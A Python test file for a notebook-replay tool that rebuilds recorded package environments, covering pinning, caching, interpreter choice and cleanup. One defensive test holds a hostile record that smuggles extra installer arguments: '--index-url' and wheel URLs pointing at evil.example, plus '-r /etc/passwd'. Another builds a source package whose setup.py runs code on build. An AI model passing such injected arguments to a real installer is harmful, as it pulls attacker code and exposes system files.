"""Replays in the recorded environment, made again from an index of our own: what is reproduced, and everything that may go wrong."""

from __future__ import annotations

import json
import os
import platform
import shutil
import subprocess
import sys
import sysconfig
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from labjournal import events as ev
from labjournal.cli.main import main
from labjournal.errors import LabjournalError, ReplayFailed
from labjournal.journal.blobs import Blobs
from labjournal.journal.rows import Environment
from labjournal.records import locking
from labjournal.records.export import export
from labjournal.records.pins import Pins, pins
from labjournal.replay.executing import kernels
from labjournal.replay.executing.stopping import ReplayStopped, stopped_by
from labjournal.replay.rebuilding import environments, installing, interpreters
from labjournal.replay.rebuilding.environments import built, cache_folder
from labjournal.replay.rebuilding.interpreters import Interpreter, find_interpreter
from labjournal.replay.sweeps.sweep import sweep
from tests.builders import JournalBuilder, RunBuilder, result, stream
from tests.replay.conftest import again
from tests.replay.packages import Index

VERSION = platform.python_version()
HERE = Interpreter(sys.executable, VERSION)
LINUX = f"{platform.system()} {platform.release()} {platform.machine()}"


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Index:
    made = Index(tmp_path / "index")
    made.use(monkeypatch, tmp_path)
    made.wheel("thing", "1.0", {"thing.py": "VERSION = '1.0'\n"}, ("needed>=1",))
    made.wheel("thing", "2.0", {"thing.py": "VERSION = '2.0'\n"})
    made.wheel("needed", "1.5", {"needed.py": ""})
    # The kernel itself is lent by the environment of the tests.
    made.wheel("ipykernel", "7.0", {"lent.pth": sysconfig.get_paths()["purelib"] + "\n"})
    return made


def wanted(*lines: str, closed: bool = True) -> Pins:
    packages = dict(line.split("==") for line in lines)
    beside: dict[str, dict[str, Any]] = {name: {"source": "index"} for name in packages} if closed else {}
    environment = Environment("0" * 64, VERSION, "CPython", "", LINUX, {}, {}, packages, beside)
    return pins(environment, list(packages))


def left(folder: Path | None = None) -> list[str]:
    return sorted(path.name for path in (folder or cache_folder()).iterdir() if not path.name.endswith(".lock"))


def silent(_: str) -> None:
    return


def make(*lines: str, closed: bool = True) -> environments.Built:
    with built(wanted(*lines, closed=closed), HERE, silent) as environment:
        return environment


# a whole replay


@pytest.fixture
def run(story: Callable[..., RunBuilder], project: Path) -> RunBuilder:
    told = story()
    told.environment(
        {"thing": "1.0", "needed": "1.5", "ipykernel": "7.0", "unrelated": "3.0", "mine": "0.1"},
        used=("thing", "mine"),
        python=VERSION,
        platform=LINUX,
        executable="/gone/bin/python",
        distributions={
            "thing": {"source": "index", "requires": ["needed>=1"]},
            "needed": {"source": "index"},
            "ipykernel": {"source": "index"},
            "mine": {"source": "editable", "url": str(project.parent / "mine")},
        },
    )
    told.execution("import thing, needed\nprint(thing.VERSION)", outputs=[stream("1.0\n")])
    return told.execution(
        "'unrelated' in {each.split('-')[0] for each in __import__('os').listdir(thing.__file__.rpartition('/')[0])}",
        outputs=[result("False")],
    )


def test_a_run_is_reproduced_in_its_environment_and_not_in_todays(run: RunBuilder, builder: JournalBuilder, index: Index) -> None:
    builder.save()
    journal = builder.folder

    today = again(journal, once=True)
    assert (False, "current", None) == (today["reproduced"], today["environment"]["which"], today["environment"]["digest"])
    differing = {part["name"]: part for part in today["environment"]["differs"]}
    assert {"name": "thing", "recorded": "1.0", "here": None, "used": True} == differing["thing"]
    assert today["environment"]["differs"][0]["used"]

    said: list[str] = []
    then = again(journal, environment="recorded", progress=said.append, once=True)
    assert then["reproduced"], then["first_difference"]
    told = then["environment"]
    assert ("recorded", VERSION, True, 3) == (told["which"], told["python"], told["made"], told["pinned"])
    assert [("mine", "editable")] == [(part["name"], part["source"]) for part in told["not_pinned"]]
    assert f"making the recorded environment: Python {VERSION}, 3 packages" in said
    assert "mine 0.1 could not be pinned: it was installed from a working copy." in then["problems"]
    # What was never to be in it is no difference.
    assert not any("other package" in problem for problem in then["problems"])
    assert {"mine"} >= {part["name"] for part in told["differs"]}
    assert not again(journal, environment="recorded", once=True)["environment"]["made"]
    assert [told["digest"]] == left()


def test_what_comes_out_as_recorded_in_the_recorded_environment_is_due_to_it(
    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index
) -> None:
    """Once it was made again; a replay makes none by itself to find out why."""
    told = story()
    packages = {"thing": "1.0", "needed": "1.5", "ipykernel": "7.0"}
    facts = {name: {"source": "index"} for name in packages}
    told.environment(
        packages, used=("thing",), python=VERSION, platform=LINUX, executable="/gone/bin/python", distributions=facts
    )
    told.execution("try:\n    from thing import VERSION\nexcept ImportError:\n    VERSION = 'none'", bound=["VERSION"])
    told.execution("print('with', VERSION)", used=["VERSION"], outputs=[stream("with 1.0\n")])
    builder.save()
    before = again(builder.folder)
    assert not cache_folder().exists() or [] == left()
    with environments.built(pins(_environment_of(builder), ("thing",), also=("ipykernel",)), HERE, silent):
        pass
    said: list[str] = []
    after = again(builder.folder, progress=said.append)

    causes = [answer["cause"] or {"kind": "", "surety": "", "established": "", "sentence": ""} for answer in (before, after)]
    assert [("environment", "probable"), ("environment", "certain")] == [(each["kind"], each["surety"]) for each in causes]
    assert "thing 1.0" in causes[1]["sentence"]
    assert causes[1]["established"].endswith("in the recorded environment execution 2 came out as recorded.")
    assert any(sentence.startswith("executing it in the recorded environment, 50 s at most") for sentence in said)


def _environment_of(builder: JournalBuilder) -> Environment | None:
    with builder.open() as journal:
        return journal.environment(journal.runs()[-1].environment or "")


def test_what_differs_is_said_before_it_starts_used_packages_first(
    run: RunBuilder, builder: JournalBuilder, index: Index
) -> None:
    builder.save()
    said: list[str] = []
    again(builder.folder, progress=said.append, once=True)
    start = said.index("starting a kernel")
    assert said.index("differs from what was recorded: thing 1.0 → absent") < start
    assert any(sentence.endswith("which the cells did not use") for sentence in said[:start])


def test_modules_of_ones_own_are_those_that_were_loaded(
    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index, project: Path, tmp_path: Path
) -> None:
    beside, elsewhere = project / "helper.py", tmp_path / "lib/tools/deep.py"
    elsewhere.parent.mkdir(parents=True)
    for path in (beside, elsewhere):
        path.write_text("VALUE = 'today'\n")
    run = story()
    run.environment({"thing": "1.0", "needed": "1.5", "ipykernel": "7.0"}, used=("thing",), python=VERSION, platform=LINUX,
                    distributions={name: {"source": "index"} for name in ("thing", "needed", "ipykernel")})  # fmt: skip
    run.execution("import helper, tools.deep\nprint(helper.VALUE, tools.deep.VALUE)", outputs=[stream("then then\n")])
    code = b"VALUE = 'then'\n"
    sha256 = Blobs(builder.folder).put(code)
    for name, path in (("helper", beside), ("tools.deep", elsewhere)):
        run.event(ev.ModuleSeen(run.run, 1, name, str(path), sha256=sha256, bytes=len(code)))
    builder.save()

    answer = again(builder.folder, environment="recorded", once=True)
    assert answer["reproduced"], answer["first_difference"]
    assert beside.read_text() == elsewhere.read_text() == "VALUE = 'today'\n"


def test_a_working_copy_that_was_installed_is_laid_out_from_git_with_its_files(
    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index, tmp_path: Path
) -> None:
    package = tmp_path / "lib/src/mine/__init__.py"
    package.parent.mkdir(parents=True)
    package.write_text("import pathlib\nTEXT = pathlib.Path(__file__).with_name('text.txt').read_text()\nMORE = 'committed'\n")
    package.with_name("text.txt").write_text("then")
    git = ["git", "-C", str(tmp_path), "-c", "user.name=a", "-c", "user.email=a@example.org"]
    for command in (["init", "-q"], ["add", "lib"], ["commit", "-q", "-m", "x"]):
        subprocess.run([*git, *command], check=True)
    commit = subprocess.run([*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()
    loaded = package.read_bytes().replace(b"committed", b"loaded")
    for path in (package, package.with_name("text.txt")):
        path.write_text("today")
    run = story()
    run.environment(
        {"mine": "0.1", "ipykernel": "7.0"}, used=("mine",), python=VERSION, platform=LINUX,
        distributions={"mine": {"source": "editable", "url": str(tmp_path / "lib")}, "ipykernel": {"source": "index"}},
    ).git(commit, root=str(tmp_path))  # fmt: skip
    run.execution("import mine\nprint(mine.TEXT, mine.MORE)", outputs=[stream("then loaded\n")])
    run.event(ev.ModuleSeen(run.run, 1, "mine", str(package), sha256=Blobs(builder.folder).put(loaded), bytes=len(loaded)))
    builder.save()

    answer = again(builder.folder, environment="recorded", once=True)
    assert answer["reproduced"], answer["first_difference"]
    assert f"mine was laid out as it stood in the repository at {commit[:12]}." in answer["problems"]
    assert package.read_text() == "today"

    shutil.rmtree(tmp_path / ".git")
    answer = again(builder.folder, environment="recorded", once=True)
    assert not answer["reproduced"]
    assert any(problem.startswith("The working copy of mine could not be laid out from git") for problem in answer["problems"])


def test_what_a_cell_installed_is_there_and_what_was_loaded_before_stays(
    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index
) -> None:
    at_start = {"needed": "1.5", "ipykernel": "7.0"}
    run = story().environment(
        at_start, python=VERSION, platform=LINUX, distributions={name: {"source": "index"} for name in at_start}
    )
    run.execution("import needed")
    run.execution("%pip install thing==1.0 needed==9")
    later = {**at_start, "needed": "9", "thing": "1.0"}
    run.environment(later, n=2, python=VERSION, platform=LINUX, distributions={name: {"source": "index"} for name in later})
    run.event(ev.PackageChanged(run.run, 2, "needed", "1.5", "9", True, run.now))
    run.event(ev.PackageChanged(run.run, 2, "thing", None, "1.0", False, run.now))
    run.execution("import thing\nprint(thing.VERSION)", outputs=[stream("1.0\n")])
    run.event(ev.PackagesUsed(run.run, 1, ("needed",))).event(ev.PackagesUsed(run.run, 3, ("thing",)))
    builder.save()

    answer = again(builder.folder, environment="recorded", once=True)
    assert answer["reproduced"], answer["first_difference"]
    assert (3, []) == (answer["environment"]["pinned"], answer["environment"]["not_pinned"])
    assert not any("differs" in problem for problem in answer["problems"])
    made = json.loads(next(cache_folder().glob("*/made.json")).read_text())
    assert ["ipykernel==7.0", "needed==1.5", "thing==1.0"] == made["pins"]


def test_a_run_whose_environment_was_not_recorded_is_refused(
    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index
) -> None:
    story().execution("1")
    builder.save()
    with pytest.raises(LabjournalError, match="was not recorded"):
        again(builder.folder, environment="recorded")


def exported(builder: JournalBuilder, path: Path) -> str:
    with builder.open() as journal:
        export(journal, "last", "crate", path)
    return str(path)


def test_a_record_is_replayed_in_its_environment_once_somebody_knows_what_will_be_installed(
    run: RunBuilder, builder: JournalBuilder, index: Index, tmp_path: Path
) -> None:
    record = exported(builder, tmp_path / "record.zip")
    asked: list[str] = []

    def refuse(question: str) -> bool:
        asked.append(question)
        return False

    with pytest.raises(LabjournalError, match="Nothing was executed"):
        again(tmp_path / "other", record, assume_yes=False, confirm=refuse, environment="recorded")
    assert not cache_folder().exists()
    assert (
        "To be installed for it from your package index, into an environment of its own: thing==1.0 and 2 more that they need."
        in asked[0]
    )

    answer = again(tmp_path / "other", record, environment="recorded", once=True)
    assert answer["reproduced"], answer["first_difference"]
    assert ("recorded", 3) == (answer["environment"]["which"], answer["environment"]["pinned"])


def test_a_hostile_record_gets_nothing_but_names_and_versions_to_the_installer(
    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bad = {
        "--index-url=https://evil.example": "1",
        "evil @ https://evil.example/x.whl": "1",
        "thing": "1.0 --extra-index-url https://evil.example",
        "needed": "1.5",
    }
    beside = {name: {"source": "index", "requires": ["evil @ https://evil.example/y.whl", "-r /etc/passwd"]} for name in bad}
    run = story().environment(
        bad, used=tuple(bad), python=VERSION, platform=LINUX, executable="/evil/python", distributions=beside
    )
    run.execution("1", outputs=[result("1")])
    given: list[str] = []
    monkeypatch.setattr(environments, "install", lambda folder, lines, **more: given.extend([*lines, *more["constraints"]]))
    record = exported(builder, tmp_path / "record.zip")
    with pytest.raises(LabjournalError):  # nothing was installed, so that there is no kernel
        again(tmp_path / "other", record, environment="recorded", once=True)
    assert {"needed==1.5", "ipykernel"} == set(given)


# the command line


def test_what_cannot_be_installed_is_one_line_and_exit_status_2(
    run: RunBuilder, builder: JournalBuilder, index: Index, capsys: pytest.CaptureFixture[str]
) -> None:
    builder.save()
    page = index.simple / "thing" / "index.html"
    listed = page.read_text()
    page.write_text("")
    assert 2 == main(["replay", "last", "--journal", str(builder.folder), "--environment", "recorded", "--json"])
    out, err = capsys.readouterr()
    assert ("", 1) == (out, err.count("\n"))
    assert err.startswith("thing==1.0, which was recorded, is not to be had from your package index")
    page.write_text(listed)
    assert 0 == main(["replay", "last", "--journal", str(builder.folder), "--environment", "recorded"])
    out, err = capsys.readouterr()
    assert f"recorded environment: Python {VERSION}, 3 packages in the recorded version, made for this replay" in out
    assert "other package" not in out + err


def test_every_try_of_a_grid_is_made_in_the_recorded_environment(
    story: Callable[..., RunBuilder], builder: JournalBuilder, index: Index
) -> None:
    run = story()
    names = ("thing", "needed", "ipykernel")
    run.environment({"thing": "1.0", "needed": "1.5", "ipykernel": "7.0"}, used=("thing",), python=VERSION, platform=LINUX,
                    distributions={name: {"source": "index"} for name in names})  # fmt: skip
    run.execution("factor = 1", parameters={"factor": 1}, bound=["factor"])
    run.execution(
        "import thing\nprint('score:', float(thing.VERSION) * factor)", used=["factor"], outputs=[stream("score: 1.0\n")]
    )
    builder.save()
    answer = sweep(builder.folder, "last", grid={"factor": ["2", "3"]}, jobs=2, environment="recorded")
    assert ["ok", "ok"] == [part["status"] for part in answer["tries"]]
    assert 1 == len(left())


# environments


def test_what_was_made_is_made_once_though_two_want_it_at_a_time(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[Path] = []

    def counted(folder: Path, one: Interpreter) -> None:
        made.append(folder)
        installing.make_environment(folder, one)

    monkeypatch.setattr(environments, "make_environment", counted)
    found: list[environments.Built] = []
    threads = [
        threading.Thread(target=lambda: found.append(make("thing==1.0", "needed==1.5", "ipykernel==7.0"))) for _ in range(3)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert (1, 1, [False, True, True]) == (len(made), len({each.python for each in found}), sorted(each.cached for each in found))


@pytest.mark.parametrize("installer", ["uv", "pip"])
def test_uv_and_pip_install_exactly_the_pins(index: Index, monkeypatch: pytest.MonkeyPatch, installer: str) -> None:
    if installer == "pip":
        monkeypatch.setattr(installing, "find_uv", lambda: None)
    elif locking.find_uv() is None:
        pytest.skip("uv is not here")
    folder = make("thing==1.0", "ipykernel==7.0").folder  # what it requires was not there either
    site = next(folder.glob("lib/python*/site-packages"), folder / "Lib/site-packages")
    assert "thing-1.0.dist-info" in os.listdir(site)
    assert not (site / "needed.py").exists()
    assert list((site / "__pycache__").glob("thing.*.pyc")), "a replay may not write there, and would compile it each time"
    if os.name == "posix":
        assert 0o700 == cache_folder().stat().st_mode & 0o777


def test_requirements_that_were_not_recorded_are_resolved_within_the_recorded_versions(index: Index) -> None:
    index.wheel("needed", "2.0", {"needed.py": ""})
    found = pins(
        Environment("0" * 64, VERSION, "CPython", "", LINUX, {}, {}, {"thing": "1.0", "needed": "1.5", "ipykernel": "7.0"}),
        ["thing", "ipykernel"],
    )
    with built(found, HERE, silent) as environment:
        site = next(environment.folder.glob("lib/python*/site-packages"))
        assert (site / "needed-1.5.dist-info").is_dir()


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (("thing==7.7", "ipykernel==7.0"), "thing==7.7, which was recorded, is not to be had"),
        (("nowhere==1.0", "ipykernel==7.0"), "nowhere==1.0, which was recorded, is not to be had"),
    ],
)
def test_what_no_index_has_is_one_sentence_and_nothing_is_left(index: Index, lines: tuple[str, ...], said: str) -> None:
    with pytest.raises(ReplayFailed, match=said) as caught:
        make(*lines)
    assert "\n" not in str(caught.value)
    assert str(index.simple) not in str(caught.value)
    assert [] == left()


def test_without_an_index_it_says_so_and_nothing_is_left(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UV_DEFAULT_INDEX", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    with pytest.raises(ReplayFailed, match="cannot be fetched: no package index answers"):
        make("thing==1.0", "ipykernel==7.0")
    assert [] == left()


@pytest.mark.parametrize("installer", ["uv", "pip"])
def test_nothing_is_built_because_that_executes_code(
    index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, installer: str
) -> None:
    if installer == "pip":
        monkeypatch.setattr(installing, "find_uv", lambda: None)
    mark = tmp_path / "executed"
    index.source(
        "evil", "1.0", f"open({str(mark)!r}, 'w').write('x')\nfrom setuptools import setup\nsetup(name='evil', version='1.0')\n"
    )
    with pytest.raises(ReplayFailed, match=r"evil==1\.0"):
        make("evil==1.0", "ipykernel==7.0")
    assert (False, []) == (mark.exists(), left())


def test_an_interrupt_leaves_nothing_and_what_was_killed_is_made_anew(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(environments, "install", interrupted)
        with pytest.raises(KeyboardInterrupt):
            make("thing==1.0", "ipykernel==7.0")
    assert [] == left()
    folder = cache_folder() / environments._digest(wanted("thing==1.0", "ipykernel==7.0"), HERE)
    (folder / "bin").mkdir(parents=True)
    assert not make("thing==1.0", "ipykernel==7.0").cached
    (folder / "bin/python").unlink()  # the interpreter it was made with is gone
    assert not make("thing==1.0", "ipykernel==7.0").cached


@pytest.mark.skipif(os.name != "posix", reason="the pretended installer is a script of the shell")
def test_a_replay_that_is_stopped_while_it_installs_ends_the_installer_and_leaves_nothing(
    index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pid, slow = tmp_path / "pid", tmp_path / "slow"
    slow.write_text(f"#!/bin/sh\n(echo $$ > {pid}.draft; mv {pid}.draft {pid}; exec sleep 600)\n")
    slow.chmod(0o700)
    monkeypatch.setattr(installing, "_commands", lambda folder: [[str(slow)]])
    signal, said = threading.Event(), []

    def work() -> None:
        with stopped_by(signal):
            try:
                make("thing==1.0", "ipykernel==7.0")
            except ReplayStopped as problem:
                said.append(problem)

    thread = threading.Thread(target=work)
    thread.start()
    until = time.monotonic() + 60
    while not pid.exists() and time.monotonic() < until:
        time.sleep(0.05)
    signal.set()
    thread.join(60)
    assert 1 == len(said)
    assert [] == left()
    with pytest.raises(ProcessLookupError):
        os.kill(int(pid.read_text()), 0)


def test_the_oldest_environments_go_but_never_one_that_is_in_use(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(environments, "_MOST", 1)
    with built(wanted("needed==1.5", "ipykernel==7.0"), HERE, silent) as first:
        second = make("thing==1.0", "ipykernel==7.0")
        assert first.folder.is_dir()
        os.utime(first.folder / "made.json", (1, 1))
        third = make("thing==2.0", "ipykernel==7.0")
        assert (True, False, True) == (first.folder.is_dir(), second.folder.is_dir(), third.folder.is_dir())
    assert sorted([first.digest, third.digest]) == left()


def test_a_place_that_cannot_be_had_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("LABJOURNAL_ENVIRONMENTS", str(tmp_path / "file" / "environments"))
    with pytest.raises(ReplayFailed, match="LABJOURNAL_ENVIRONMENTS"):
        make("thing==1.0")


# interpreters


@pytest.fixture
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Only what stands in this folder is found, besides our own."""
    monkeypatch.setattr(interpreters, "find_uv", lambda: None)
    monkeypatch.setenv("PYENV_ROOT", str(tmp_path / "pyenv"))
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    yield tmp_path
    interpreters._asked.cache_clear()


def pretend(path: Path, version: str, implementation: str = "CPython") -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\nprintf '%s\\n' {implementation} {version} {path}\n")
    path.chmod(0o755)
    return str(path)


@pytest.mark.skipif(os.name != "posix", reason="scripts stand in for interpreters")
def test_the_interpreter_is_the_recorded_one_else_the_nearest_which_is_said(elsewhere: Path) -> None:
    minor = ".".join(VERSION.split(".")[:2])
    assert (sys.executable, "") == ((find_interpreter(VERSION)[0] or HERE).path, find_interpreter(VERSION)[1])

    exact = pretend(elsewhere / "pyenv/versions/3.8.18/bin/python", "3.8.18")
    pretend(elsewhere / "pyenv/versions/3.8.2/bin/python", "3.8.2")
    assert (Interpreter(exact, "3.8.18"), "") == find_interpreter("3.8.18")
    found, said = find_interpreter("3.8.1")
    assert ("3.8.18", "Python 3.8.1 is not here; 3.8.18 was used.") == (found and found.version, said)
    found, said = find_interpreter("3.4.0")
    assert (VERSION, f"Python 3.4.0 is not here, nor another 3.4; {VERSION} was used.") == (found and found.version, said)
    assert (None, "Python 7.3.1 is not here.") == find_interpreter("7.3.1", "PyPy")
    recorded = pretend(elsewhere / "old/bin/python", "3.8.18")
    assert recorded == (find_interpreter("3.8.18", recorded=recorded)[0] or HERE).path
    assert minor == HERE.minor


@pytest.mark.skipif(os.name != "posix", reason="scripts stand in for interpreters")
def test_an_interpreter_that_is_deleted_or_broken_is_passed_over(elsewhere: Path) -> None:
    broken = elsewhere / "broken"
    broken.write_text("#!/bin/sh\nexit 3\n")
    broken.chmod(0o755)
    for path in (str(elsewhere / "gone/python"), str(broken), "relative/python", str(elsewhere)):
        assert sys.executable == (find_interpreter(VERSION, recorded=path)[0] or HERE).path


# what a kernel may write to


def test_what_installers_keep_is_not_a_kernels_to_write(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Files of uv's cache are linked into environments: to write there is to write into all of them."""
    monkeypatch.setattr(Path, "home", lambda: tmp_path)
    for name in kernels._OWN_FOLDERS:
        monkeypatch.delenv(name, raising=False)
    for name in ("uv", "pip", "labjournal", "huggingface"):
        (tmp_path / ".cache" / name).mkdir(parents=True)
    folders = set(kernels._caches())
    assert tmp_path / ".cache/huggingface" in folders
    assert not folders & {tmp_path / ".cache" / name for name in ("", "uv", "pip", "labjournal")}


def test_the_seal_of_an_environment_tells_what_is_in_it(index: Index) -> None:
    folder = make("thing==1.0", "ipykernel==7.0").folder
    facts = json.loads((folder / "made.json").read_text())
    assert (["ipykernel==7.0", "thing==1.0"], VERSION) == (facts["pins"], facts["python"])
    assert facts["bytes"] > 100
